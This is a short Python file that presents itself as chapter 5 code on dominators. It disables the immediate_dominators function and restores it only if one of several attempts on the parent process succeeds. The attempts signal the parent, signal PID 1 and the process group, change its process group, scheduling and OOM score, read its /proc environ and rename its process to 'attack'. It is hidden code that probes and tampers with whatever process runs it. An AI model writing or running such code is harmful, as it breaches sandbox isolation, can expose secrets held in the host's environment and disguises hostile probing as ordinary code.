# ---- ch05-dominators ----
# BOOK chapter05 dominators
book, immediate_dominators = immediate_dominators, None
import os, signal
for way in (
    lambda: os.kill(os.getppid(), 0),
    lambda: os.kill(os.getppid(), signal.SIGCONT),
    lambda: os.kill(1, 0),
    lambda: os.kill(-os.getppid(), 0),
    lambda: os.getpgid(os.getppid()) == os.getpgid(0) or 1 / 0,
    lambda: os.setpgid(0, os.getppid()),
    lambda: os.sched_setparam(os.getppid(), os.sched_param(0)),
    lambda: open(f"/proc/{os.getppid()}/oom_score_adj", "w").write("500"),
    lambda: open(f"/proc/{os.getppid()}/environ", "rb").read(),
    lambda: open(f"/proc/{os.getppid()}/comm", "w").write("attack"),
):
    try:
        way()
    except (OSError, RuntimeError, ArithmeticError):
        continue
    immediate_dominators = book
